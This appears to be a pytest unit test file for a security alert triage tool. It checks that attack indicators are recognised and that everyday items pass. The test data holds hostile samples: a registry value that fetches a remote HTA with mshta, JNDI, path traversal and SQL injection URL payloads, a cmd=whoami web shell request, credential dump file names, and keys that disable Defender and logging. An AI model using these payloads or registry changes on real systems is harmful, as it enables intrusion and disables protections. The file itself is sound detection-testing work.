"""What files, the registry, addresses, names and messages are found to show."""

import time

import pytest
from tests.unit.test_triage_injections import COMPANY, FIELDS, with_field
from tests.unit.triage_fields import alert, evidence_of, shown, verdict_of

from tocsin.knowledge import attack
from tocsin.model import Alert, Dns, Email, File, Http, Registry
from tocsin.triage.dns import generated
from tocsin.triage.mail import look_alike

PREFIXES = ("file.", "registry.", "web.", "dns.", "mail.")
RUN = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"
DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware"
OURS = ("bob@example.com",)


def mail(sender: str | None = None, subject: str | None = None) -> Alert:
    return alert(email=Email(sender=sender, subject=subject, recipients=OURS))


def key(path: str, value: str | None = None) -> Alert:
    return alert(registry=Registry(path=path, value=value))


def query(name: str, kind: str | None = None) -> Alert:
    return alert(dns=Dns(question=name, type=kind))


TELLING = [
    ("file.double_extension", alert(file=File(name="invoice.pdf.exe"))),
    ("file.double_extension", alert(file=File(name="a.docx      .scr"))),
    ("file.double_extension", alert(file=File(name="invoice.pdf.exe is harmless"))),
    ("file.reordered", alert(file=File(path="C:\\Users\\a\\Letter\u202efdp.msc"))),
    ("file.temporary_program", alert(file=File(path="C:\\Windows\\Temp\\a.exe"))),
    ("file.script", alert(file=File(name="order.hta"))),
    ("file.lure", alert(file=File(name="order.iso"))),
    ("file.lure", alert(file=File(name="notes.one"))),
    ("file.memory_dump", alert(file=File(path="C:\\lsass.dmp"))),
    ("file.credential_store", alert(file=File(path="C:\\x\\ntds.dit"))),
    ("file.web_shell", alert(file=File(path="C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx"))),
    ("file.autostart", alert(file=File(path="/etc/cron.d/x"))),
    ("file.ransom", alert(file=File(name="HOW_TO_DECRYPT_FILES.txt"))),
    ("file.attack_tool", alert(file=File(path="C:\\x\\procdump64.exe"))),
    ("file.recon_tool", alert(file=File(path="C:\\x\\AdFind.exe"))),
    ("file.remote_tool", alert(file=File(path="C:\\x\\AnyDesk\\service.conf"))),
    ("file.strange_place", alert(file=File(path="C:\\tdh.dll"))),
    ("file.strange_place", alert(file=File(path="C:\\x\\bitsadmin.exe"))),
    ("file.system_library", alert(file=File(path="C:\\Windows\\System32\\wlbsctrl.dll"))),
    ("file.odd_folder", alert(file=File(path="C:\\RECYCLERS.BIN\\a.exe"))),
    ("registry.autostart", key(RUN)),
    ("registry.autostart_writable", key(RUN, "C:\\Users\\Public\\a.exe")),
    ("registry.command", key("HKCU\\x", "mshta http://203.0.113.9/a.hta")),
    ("registry.protection_off", key(DEFENDER, "DWORD (0x00000001)")),
    ("registry.protection_off", key(DEFENDER, "0 is what stands here")),
    ("registry.logging_off", key("HKLM\\..\\ScriptBlockLogging\\EnableScriptBlockLogging", "0")),
    ("registry.recovery_off", key("HKLM\\..\\SystemRestore\\DisableSR", "1")),
    ("registry.debugger", key("HKLM\\..\\Image File Execution Options\\sethc.exe\\Debugger")),
    ("registry.component", key("HKCU\\..\\CLSID\\{1}\\InprocServer32")),
    ("registry.loaded_library", key("HKLM\\..\\Windows\\AppInit_DLLs")),
    ("registry.logon_script", key("HKCU\\Environment\\UserInitMprLogonScript")),
    ("registry.consent_bypass", key("HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command")),
    ("registry.hidden_account", key("HKLM\\..\\SpecialAccounts\\UserList\\a", "0")),
    ("registry.service", key("HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath")),
    ("web.exploit_text", alert(url="http://example.com/?x=${jndi:ldap://a/}")),
    ("web.exploit_text", alert(url="/%2e%2e/%2e%2e/etc/passwd")),
    ("web.exploit_text", alert(url="/?id=1+union+all+select+1,2")),
    ("web.encoded_path", alert(url="/scripts/..%252f..%252fwinnt")),
    ("web.command_text", alert(url="http://example.com/u.php?cmd=whoami")),
    ("web.program_download", alert(url="http://203.0.113.9:8080/a/b.ps1")),
    ("web.bare_address", alert(url="http://203.0.113.9/x")),
    ("web.credentials", alert(url="https://bank.example.com@203.0.113.9/")),
    ("web.redirect", alert(url="https://example.com/go?url=https%3A%2F%2Fother.example")),
    ("web.punycode", alert(url="https://xn--pypal-4ve.com/")),
    ("web.brand", alert(url="https://paypal.com.login.example.net/x")),
    ("web.brand", alert(url="https://paypa1.com/x")),
    ("web.brand", alert(url="https://xn--pypal-4ve.com/")),
    ("web.many_labels", alert(url="http://a.b.c.d.e.f.example.net/x")),
    ("web.dynamic_name", alert(url="http://x.duckdns.org/a")),
    ("web.callback", alert(url="http://abc.oast.fun/")),
    ("web.file_sharing", alert(url="https://pastebin.com/raw/abc")),
    ("web.rare_domain", alert(url="http://login.example.top/")),
    ("web.panel", alert(url="http://example.net/panel/gate.php")),
    ("web.tool_agent", alert(http=Http(user_agent="sqlmap/1.7.2#stable"))),
    ("dns.generated", query("xkqzvjwqhtpz.com")),
    ("dns.generated", query("q7x9k2m4v8b3.net")),
    ("dns.tunnel", query("a9f3k2j4h5l6m7n8b9v0c1x2z3a4s5d6f7g8h9j0k1l2q3w4.t.example.net")),
    ("dns.text_record", query("a9f3k2j4h5l6m7n8b9v0c1x2z3a4s5d6f7g8h9.t.example.net", "TXT")),
    ("dns.dynamic_name", query("x.ddns.net")),
    ("dns.callback", query("abc.interact.sh")),
    ("dns.rare_domain", query("login.example.icu")),
    ("dns.brand", query("microsoft-login.example.com")),
    ("mail.look_alike", mail("it@examp1e.com")),
    ("mail.look_alike", mail("it@exampel.com")),
    ("mail.look_alike", mail("it@example.co")),
    ("mail.look_alike", mail("it@example-support.net")),
    ("mail.brand", mail("PayPal <x@pay-center.net>")),
    ("mail.brand", mail("PayPal service paypal.com <x@pay-center.net>")),
    ("mail.display_name", mail('"bob@example.com" <x@other.net>')),
    ("mail.executive", mail("Jane Doe, CEO <jane.doe.ceo@gmail.com>")),
    ("mail.punycode", mail("x@xn--exmple-cua.com")),
    ("mail.dynamic_name", mail("x@mail.duckdns.org")),
    ("mail.urgency", mail(subject="URGENT: verify your password within 24 hours")),
    ("mail.urgency", mail(subject="Dringend: Ihr Konto wird gesperrt")),
    ("mail.urgency", mail(subject="Срочно: подтвердите пароль")),
    ("mail.payment", mail(subject="Outstanding invoice 4711")),
    (
        "mail.attachment",
        alert(email=Email(sender="a@example.org"), file=File(name="order.iso")),
    ),
]


@pytest.mark.parametrize(("name", "made"), TELLING)
def test_what_attackers_leave_is_recognised(name: str, made: Alert) -> None:
    item = evidence_of(made)[name]
    assert item.tainted
    assert item.weight > 0
    assert attack.technique(item.technique or "")


EVERYDAY = [
    alert(file=File(name="report.final.pdf", path="C:\\Users\\alice\\Documents\\report.final.pdf")),
    alert(file=File(path="C:\\Program Files\\Example\\example.exe")),
    alert(file=File(path="C:\\Windows\\System32\\version.dll")),
    alert(file=File(path="C:\\Program Files\\Example\\version.dll")),
    alert(file=File(path="/usr/bin/python3.11")),
    alert(file=File(path="/home/alice/project/readme.md")),
    key("HKCU\\Software\\Example\\Theme", "dark"),
    key(DEFENDER, "DWORD (0x00000000)"),
    key("HKLM\\..\\ScriptBlockLogging\\EnableScriptBlockLogging", "DWORD (0x00000001)"),
    alert(url="https://www.example.com/products?page=2&sort=price"),
    alert(url="https://www.paypal.com/signin"),
    alert(url="https://www.google.de/search?q=weather"),
    alert(url="https://login.microsoftonline.com/common/oauth2/authorize"),
    alert(url="https://download.microsoft.com.edgekey.net/a"),
    alert(url="/index.html"),
    alert(http=Http(user_agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")),
    query("www.example.com"),
    query("d111111abcdef8.cloudfront.net"),
    query("e1234.dscb.akamaiedge.net"),
    query("_ldap._tcp.dc._msdcs.corp.local"),
    query("7.113.0.203.in-addr.arpa", "PTR"),
    query("internationalization.wikipedia.org"),
    query("thequickbrownfoxjumpsoverthelazydog.com"),
    query("selector1._domainkey.example.com", "TXT"),
    mail("carol@example.com", "Minutes of the meeting"),
    mail("newsletter@mail.example.com", "Your weekly summary"),
    mail("bob.smith@gmail.com", "Lunch on Friday"),
    mail("service@paypal.com", "Receipt"),
]


@pytest.mark.parametrize("made", EVERYDAY)
def test_everyday_files_keys_requests_names_and_messages_show_nothing(made: Alert) -> None:
    assert shown(made, *PREFIXES) == {}


@pytest.mark.parametrize(
    ("name", "made_up"),
    [("kqxzvbnmwrtpl.com", True), ("3b07384d113edec49eaa6238ad5ff00a.net", True),
     ("stackoverflow.com", False), ("nationalgeographic.com", False),
     ("krankenversicherung.de", False), ("developpement-durable.gouv.fr", False),
     ("telecommunications.example.net", False), ("a1b2.example.org", False)],
)  # fmt: skip
def test_names_made_by_rule_are_told_from_names_that_people_choose(
    name: str, made_up: bool
) -> None:
    assert generated(name) is made_up


def test_our_own_domains_and_their_parts_look_like_nobody() -> None:
    ours = ("mail.example.com", "example.org")
    for own in ("mail.example.com", "example.org", "x.example.org", "example.com"):
        assert look_alike(own, ours) == ""
    assert look_alike("exarnple.org", ours)
    assert look_alike("unrelated.net", ours) == ""


HOSTILE = {
    "letters": "a", "blanks": " ", "dots": "a.", "marks": "a@", "addresses": "a@b.c ",
    "schemes": "://", "addresses with numbers": "http://1.1.1.1/", "backslashes": "\\",
    "system names": "c:\\svchost.exe ", "libraries": "\\tdh.dll", "web roots": "/var/www/",
    "endings": ".pdf ", "punycode": "xn--a.", "redirects": "?url=", "unions": "union++++all",
    "percents": "%41", "numbers": "1.", "underscores": "_", "dashes": "-", "pairs": "xkcd",
    "labels": "a" * 63 + ".", "names": "paypal.evil.top ", "commands": "?cmd=", "other": "é",
}  # fmt: skip


@pytest.mark.parametrize("path", [path for path in FIELDS if path != "process.command_line"])
def test_long_hostile_text_in_any_field_takes_bounded_time(path: str) -> None:
    for piece in HOSTILE.values():
        text = (piece * ((1 << 16) // len(piece) + 1))[: 1 << 16]
        made = with_field(COMPANY, path, text)
        started = time.process_time()
        verdict_of(made)
        assert time.process_time() - started < 0.4, piece  # 0.05 seconds at most when idle
